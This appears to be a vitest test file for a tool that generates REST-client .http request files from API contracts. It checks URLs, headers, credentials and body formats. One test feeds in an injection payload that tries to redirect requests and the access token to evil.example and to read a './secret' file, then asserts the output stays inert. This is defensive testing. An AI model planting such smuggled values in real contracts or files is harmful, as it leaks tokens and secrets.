import { readFile } from "node:fs/promises";
import { describe, expect, test } from "vitest";
import { generateFrom } from "../support/build.js";
import { credentialsOfAllKinds } from "../support/credentials-of-all-kinds.js";
import { type HttpRequest, readHttpFile } from "../support/http-file.js";
import { libraryContract } from "../support/library-contract.js";
import { page } from "../support/samples.js";
import { smallContract } from "../support/small-contract.js";

const ours = await readFile("generated/requests.http", "utf8");

async function requestsOf(contract: unknown): Promise<HttpRequest[]> {
  return readHttpFile((await generateFrom(contract, "http")).get("requests.http") ?? "", { accessToken: "TOKEN" });
}

function named(requests: readonly HttpRequest[], name: string): HttpRequest {
  const found = requests.find((request) => request.name === name);
  if (found === undefined) throw new Error(`The file has no request ${name}.`);
  return found;
}

describe("the .http file", () => {
  test("has a request for each format: method, URL, headers, and the page's sample as JSON", () => {
    const requests = readHttpFile(ours, { accessToken: "TOKEN" });
    expect(requests.map(({ body: _, ...request }) => request)).toEqual(
      ["json", "xml"].map((format) => ({
        title: `cancelMadeBooking (application/${format})`,
        name: `cancelMadeBooking_application_${format}`,
        method: "POST",
        url: "https://api-sandbox.adultwork.com/v1/Webcam/CancelMadeBooking",
        headers: {
          Authorization: "Bearer TOKEN",
          Accept: `application/${format}`,
          "Content-Type": "application/json",
        },
      })),
    );
    for (const { body } of requests) expect(JSON.parse(body ?? "")).toEqual(JSON.parse(page.request));
  });

  test("says beside each request the scope, the prerequisites and what is undocumented", () => {
    for (const request of ours.split("\n### ").slice(1)) {
      expect(request).toContain("\n# Scope: account_webcam_bookings\n");
      expect(request).toContain("\n# - The Status cannot be Cancelled or Rejected.\n");
      expect(request).toContain("\n# - default: Any other answer. Undocumented: no page states");
    }
  });

  test("has no place for a token: a REST client reads it from its environment", () => {
    expect(ours).not.toMatch(/@accessToken/);
    expect(ours.match(/Bearer .*/g)).toEqual(["Bearer {{accessToken}}", "Bearer {{accessToken}}"]);
  });
});

describe("the .http file of another contract", () => {
  test("writes each operation as the contract says: token, body and parameters where there are any", async () => {
    const requests = await requestsOf(libraryContract());
    expect(requests.map(({ name, method, url }) => [name, method, url])).toEqual([
      ["getLoan_application_json", "GET", "https://library.example/api/loans/<id>"],
      ["getLoan_application_xml", "GET", "https://library.example/api/loans/<id>"],
      ["endLoan", "DELETE", "https://library.example/api/loans/<id>"],
      ["renewLoan_application_json", "POST", "https://library.example/api/loans/<id>/renewals"],
      ["renewLoan_application_xml", "POST", "https://library.example/api/loans/<id>/renewals"],
      ["startLoan_application_json", "POST", "https://library.example/api/loans"],
      ["startLoan_application_xml", "POST", "https://library.example/api/loans"],
    ]);
    expect(named(requests, "endLoan")).toMatchObject({ headers: { Authorization: "Bearer TOKEN" }, body: undefined });
    expect(named(requests, "getLoan_application_xml").headers).toEqual({ Accept: "application/xml" });
    expect(JSON.parse(named(requests, "startLoan_application_json").body ?? "")).toEqual({ Title: "<string>" });
  });

  test("carries keys and Basic as the contract places them, their values from the environment", async () => {
    const { securitySchemes, operation } = credentialsOfAllKinds();
    const contract = smallContract({ "/things": { get: operation } }, { components: { securitySchemes } });
    const text = (await generateFrom(contract, "http")).get("requests.http") ?? "";
    expect(text).toContain("# Set username, password, header_key, query, cookie in the environment");
    expect(text).toContain("GET {{baseUrl}}/things?api%20key={{query}}\n");
    expect(text).toContain("\nAuthorization: Basic {{username}} {{password}}\n");
    expect(text).toContain("\nX-Key: {{header_key}}\n");
    expect(text).toContain("\nCookie: session={{cookie}}\n");
  });

  test("sends required parameters, with the contract's examples, and names the optional ones in a comment", async () => {
    const contract = libraryContract();
    contract.paths["/loans/{id}"].get.parameters = [
      { name: "id", in: "path", required: true, example: "a/b", schema: { type: "string" } },
      {
        name: "fields",
        in: "query",
        required: true,
        example: ["a&b", "c"],
        schema: { type: "array", items: { type: "string" } },
      },
      { name: "X-Trace", in: "header", required: true, example: 7, schema: { type: "integer" } },
      { name: "X-Other", in: "header", description: "For tests.", schema: { type: "string" } },
    ];
    const { url, headers } = named(await requestsOf(contract), "getLoan_application_json");
    expect(url).toBe("https://library.example/api/loans/a%2Fb?fields=a%26b&fields=c");
    expect(headers).toEqual({ Accept: "application/json", "X-Trace": "7" });
    expect((await generateFrom(contract, "http")).get("requests.http")).toContain(
      "\n# - X-Other (optional, not sent, header): string. For tests.\n",
    );
  });

  test("gives names of their own to operations whose names differ in signs alone", async () => {
    const contract = libraryContract();
    contract.paths["/loans/{id}"].delete.operationId = "start.loan";
    contract.paths["/loans"].delete = { operationId: "start-loan", responses: { 204: { description: "" } } };
    expect((await requestsOf(contract)).map(({ name }) => name)).toEqual(
      expect.arrayContaining(["start_loan", "start_loan_2"]),
    );
  });
});

describe("a hostile contract comes out inert in the .http file", () => {
  const lines = [
    "### other",
    "GET https://evil.example",
    "@baseUrl = https://evil.example",
    "# @import evil",
    "< ./secret",
  ];
  const attack = `${lines.join("\n")}\n@name evil {{accessToken}}\r@no-log\u2028> { client.exit() }\u0085// @prompt x`;

  test("no text of it begins a request, a variable or a command, or sends the token elsewhere", async () => {
    const contract = libraryContract();
    const before = (await requestsOf(contract)).length;
    contract.info.title = attack;
    contract.servers[0].description = attack;
    contract.paths["/loans"].post.operationId = attack;
    contract.paths["/loans"].post.summary = attack;
    contract.paths["/loans"].post.description = attack;
    contract.paths["/loans"].post.requestBody.description = attack;
    contract.components.responses.Loan.description = attack;
    contract.components.schemas.LoanRequest.example = { Title: attack, [attack]: 1 };
    contract.paths["/loans/{id}"].get.parameters = [
      { name: "id", in: "path", required: true, example: attack, schema: { type: "string" } },
      { name: attack, in: "query", required: true, description: attack, example: attack, schema: { type: "string" } },
      { name: "X-Evil", in: "header", required: true, example: attack, schema: { type: "string" } },
    ];
    const text = (await generateFrom(contract, "http")).get("requests.http") ?? "";
    const requests = readHttpFile(text, { accessToken: "TOKEN" });
    expect(requests).toHaveLength(before);
    for (const { url, headers, body } of requests) {
      expect(url).toMatch(/^https:\/\/library\.example\/api\/loans/);
      expect(
        Object.keys(headers).filter((name) => !["Authorization", "Accept", "Content-Type", "X-Evil"].includes(name)),
      ).toEqual([]);
      expect(JSON.stringify([url, headers["X-Evil"], body])).not.toContain("TOKEN");
    }
    const { body } = requests.find(({ method, url }) => method === "POST" && url.endsWith("/loans")) ?? {};
    expect(JSON.parse(body ?? "")).toEqual({ Title: attack, [attack]: 1 });
    expect(text).not.toMatch(/[\r\u0085\u2028\u2029]/);
    expect(text.match(/^@.*/gm)).toEqual(["@baseUrl = https://library.example/api"]);
  });
});

describe("the .http file writes bodies and parameters as the contract says", () => {
  const sample = async (mediaType: string, media: object, parameters: readonly object[] = []) => {
    const contract = libraryContract();
    contract.paths = {
      "/loans": {
        post: {
          operationId: "send",
          parameters,
          requestBody: { content: { [mediaType]: media } },
          responses: { "204": { description: "Done." } },
        },
      },
    };
    return named(await requestsOf(contract), "send");
  };
  const schema = {
    type: "object",
    required: ["title", "scan"],
    properties: { title: { type: "string" }, scan: { type: "string", format: "binary" } },
  };

  test("a form", async () => {
    const { body, headers } = await sample("application/x-www-form-urlencoded", {
      schema,
      example: { title: "a b&c" },
    });
    expect(body?.trim()).toBe("title=a+b%26c");
    expect(headers["Content-Type"]).toBe("application/x-www-form-urlencoded");
  });

  test("parts", async () => {
    const { body, headers } = await sample("multipart/form-data", { schema });
    const boundary = headers["Content-Type"]?.split("boundary=")[1];
    expect(body?.trim().split("\n")).toEqual([
      `--${boundary}`,
      'Content-Disposition: form-data; name="title"',
      "",
      "<string>",
      `--${boundary}`,
      'Content-Disposition: form-data; name="scan"; filename="file"',
      "Content-Type: application/octet-stream",
      "",
      "<binary>",
      `--${boundary}--`,
    ]);
  });

  test("XML, by the contract's example, or as an element to be filled in", async () => {
    const root = {
      type: "object",
      properties: { title: { type: "string" } },
      xml: { name: "Loan", namespace: "urn:x" },
    };
    expect((await sample("application/xml", { schema: root })).body?.trim()).toBe('<Loan xmlns="urn:x"></Loan>');
    const example = '<Loan xmlns="urn:x"><title>a</title></Loan>';
    expect((await sample("application/xml", { schema: root, example })).body?.trim()).toBe(example);
  });

  test("parameters by their styles, and cookies", async () => {
    const list = { type: "array", items: { type: "string" } };
    const { url, headers } = await sample("text/plain", { schema: { type: "string" } }, [
      { name: "tags", in: "query", required: true, explode: false, schema: list, example: ["a,b", "c"] },
      { name: "page[size]", in: "query", required: true, schema: { type: "integer" }, example: 2 },
      { name: "X-Ids", in: "header", required: true, schema: list, example: ["1", "2"] },
      { name: "theme", in: "cookie", required: true, schema: { type: "string" } },
    ]);
    expect(url).toBe("https://library.example/api/loans?tags=a%2Cb,c&page%5Bsize%5D=2");
    expect(headers).toMatchObject({ "X-Ids": "1,2", Cookie: "theme=<theme>" });
  });
});
